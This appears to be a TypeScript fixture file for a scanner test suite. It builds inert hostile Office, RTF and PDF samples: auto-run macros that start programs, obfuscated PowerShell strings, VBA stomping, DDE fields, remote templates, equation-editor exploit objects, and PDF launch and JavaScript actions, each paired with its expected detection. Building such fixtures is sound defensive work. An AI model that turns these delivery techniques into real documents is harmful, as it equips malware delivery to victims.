/** Office documents, rich text and PDF files as attacks send them. All inert. */
import { deflateSync } from 'node:zlib';
import { compoundFile, vbaCompress, vbaProject, wordDocument } from '../../engines/office-fixture.ts';
import { zipOf } from '../../engines/zip-fixture.ts';
import { atom, buildPpt, container, slide } from '../../fixtures/build-ppt.ts';
import { equation, field, macro, objectOf, packageOf, pdf, stomped, strewn, workbook } from './document-fixture.ts';
import { HOST, type HostileFile, PROGRAM } from './sample.ts';
import { binaryWorkbook } from './xlsb-fixture.ts';

export const OFFICE_AND_PDF: readonly HostileFile[] = [
  {
    technique: 'macro: runs by itself and starts a program',
    name: 'a.docm',
    content: macro('Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub'),
    level: 'malicious',
    finds: ['macro-acts-by-itself'],
  },
  {
    technique: 'macro: event of a control, object by name',
    name: 'b.docm',
    content: macro('Private Sub Frame1_Layout()\r\nCreateObject("WScript.Shell").Run "x"\r\nEnd Sub'),
    level: 'malicious',
    finds: ['macro-acts-by-itself'],
  },
  {
    technique: 'macro: words taken apart',
    name: 'c.docm',
    content: macro(
      'Sub Document_Open()\r\nx = "WSc" & "ript.Sh" & "ell"\r\nCreateObject(x).Run "po" & "wersh" & "ell -c 1"\r\nEnd Sub',
    ),
    level: 'malicious',
    finds: ['macro-acts-by-itself', 'code-obfuscated'],
  },
  {
    technique: 'macro: calls into memory',
    name: 'd.docm',
    content: macro(
      'Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (a As Long) As LongPtr\r\nSub Workbook_Open()\r\nr = VirtualAlloc(1)\r\nEnd Sub',
    ),
    level: 'malicious',
    finds: ['code-loads-memory'],
  },
  {
    technique: 'macro: source removed, compiled code left',
    name: 'e.docm',
    content: wordDocument({ parts: { 'word/vbaProject.bin': stomped() } }),
    level: 'malicious',
    finds: ['vba-stomped'],
  },
  {
    technique: 'macro in a Word 97 document',
    name: 'f.doc',
    content: compoundFile({
      WordDocument: Buffer.concat([Buffer.from('eca5c100', 'hex'), Buffer.alloc(600)]),
      'Macros/VBA/Module1': vbaCompress('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc"\r\nEnd Sub'),
    }),
    level: 'malicious',
    finds: ['macro-acts-by-itself'],
  },
  {
    technique: 'macro in a PowerPoint 97 presentation, compressed',
    name: 'f.ppt',
    content: buildPpt({
      document: [container(0x03ff, [atom(0x0400, Buffer.from('030000000100000002000000', 'hex'), 2)])],
      slides: [
        slide('Quarterly figures'),
        atom(
          0x1011,
          Buffer.concat([Buffer.alloc(4), deflateSync(vbaProject('Sub Auto_Open()\r\nShell "calc"\r\nEnd Sub'))]),
          1,
        ),
      ],
    }),
    level: 'malicious',
    finds: ['macro-acts-by-itself'],
  },
  {
    technique: 'macro in a binary workbook',
    name: 'f.xlsb',
    content: binaryWorkbook({ macros: vbaProject('Sub Auto_Open()\r\nShell "calc"\r\nEnd Sub') }),
    level: 'malicious',
    finds: ['macro-acts-by-itself'],
  },
  {
    technique: 'Excel 4.0 macro on a hidden sheet',
    name: 'g.xlsm',
    content: workbook('<macrosheet><c><f>EXEC("calc.exe")</f></c></macrosheet>'),
    level: 'malicious',
    finds: ['xlm-acts-by-itself'],
  },
  {
    technique: 'template from elsewhere',
    name: 'h.docx',
    content: wordDocument({ relationships: [['attachedTemplate', `${HOST}/t.dotm`, true]] }),
    level: 'suspicious',
    finds: ['office-external-template'],
  },
  {
    technique: 'object that is a web page',
    name: 'i.docx',
    content: wordDocument({ relationships: [['oleObject', `mhtml:${HOST}/x.html!x-usc:${HOST}/x.html`, true]] }),
    level: 'malicious',
    finds: ['office-remote-html'],
  },
  {
    technique: 'DDE field starts a command',
    name: 'j.docx',
    content: wordDocument({ body: field(' DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k echo inert&quot;') }),
    level: 'malicious',
    finds: ['dde-starts-program'],
  },
  {
    technique: 'program packaged as an object',
    name: 'k.docx',
    content: wordDocument({
      relationships: [['oleObject', 'embeddings/o.bin', false]],
      parts: { 'word/embeddings/o.bin': compoundFile({ '\u0001Ole10Native': packageOf('invoice.exe', PROGRAM) }) },
    }),
    level: 'malicious',
    finds: ['office-embedded-program'],
  },
  {
    technique: 'macro in OpenDocument',
    name: 'l.odt',
    content: zipOf({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': '<office:document-content/>',
      'Basic/Standard/Module1.xml': '<script:module>Sub Main\nShell("cmd /c echo inert")\nEnd Sub</script:module>',
    }),
    level: 'suspicious',
    finds: ['office-custom-code'],
  },
  {
    technique: 'RTF: equation with an overlong font name',
    name: 'm.rtf',
    content: `{\\rtf1 {\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata ${objectOf('Equation.3', equation)}}}}`,
    level: 'malicious',
    finds: ['equation-attack'],
  },
  {
    technique: 'RTF: object strewn with control words',
    name: 'n.rtf',
    content: `{\\rtf1 {\\object\\objemb\\objupdate{\\*\\objdata ${strewn(objectOf('Equation.3', equation))}}}}`,
    level: 'malicious',
    finds: ['rtf-obfuscated-object'],
  },
  {
    technique: 'RTF: packaged script',
    name: 'o.rtf',
    content: `{\\rtf1 {\\object\\objemb{\\*\\objdata ${objectOf('Package', packageOf('a.js', Buffer.from('WScript.Echo(1)')).subarray(4))}}}}`,
    level: 'suspicious',
    finds: ['rtf-package'],
  },
  {
    technique: 'PDF: starts a command',
    name: 'p.pdf',
    content: pdf('/OpenAction 4 0 R', '4 0 obj <</S /Launch /Win <</F (cmd.exe) /P (/c echo inert)>>>> endobj'),
    level: 'malicious',
    finds: ['pdf-runs-command', 'pdf-attack'],
  },
  {
    technique: 'PDF: script under a disguised name',
    name: 'q.pdf',
    content: pdf('/OpenAction 4 0 R', '4 0 obj <</S /J#61vaScr#69pt /JS (app.alert\\(1\\))>> endobj'),
    level: 'malicious',
    finds: ['pdf-obfuscated-name', 'pdf-attack'],
  },
  {
    technique: 'PDF: script that runs on opening',
    name: 'r.pdf',
    content: pdf(
      '/OpenAction 4 0 R',
      '4 0 obj <</S /JavaScript /JS (this.getURL\\("https://pay.example/"\\))>> endobj',
    ),
    level: 'suspicious',
    finds: ['pdf-javascript'],
  },
  {
    technique: 'PDF: script of escapes',
    name: 's.pdf',
    content: pdf(
      '/OpenAction 4 0 R',
      `4 0 obj <</S /JavaScript /JS (var s = unescape\\("${'%u9090%u4141'.repeat(40)}"\\); eval\\(unescape\\("%61"\\)\\))>> endobj`,
    ),
    level: 'malicious',
    finds: ['pdf-attack'],
  },
  {
    technique: 'PDF: attached program',
    name: 't.pdf',
    content: Buffer.concat([
      Buffer.from(
        pdf('/Names <</EmbeddedFiles 5 0 R>>', '').replace(
          'trailer',
          `6 0 obj <</Type /EmbeddedFile /Length ${PROGRAM.length}>>\nstream\n`,
        ),
        'latin1',
      ),
      PROGRAM,
      Buffer.from('\nendstream endobj\n'),
    ]),
    level: 'suspicious',
    finds: ['pdf-embedded-file'],
  },
];
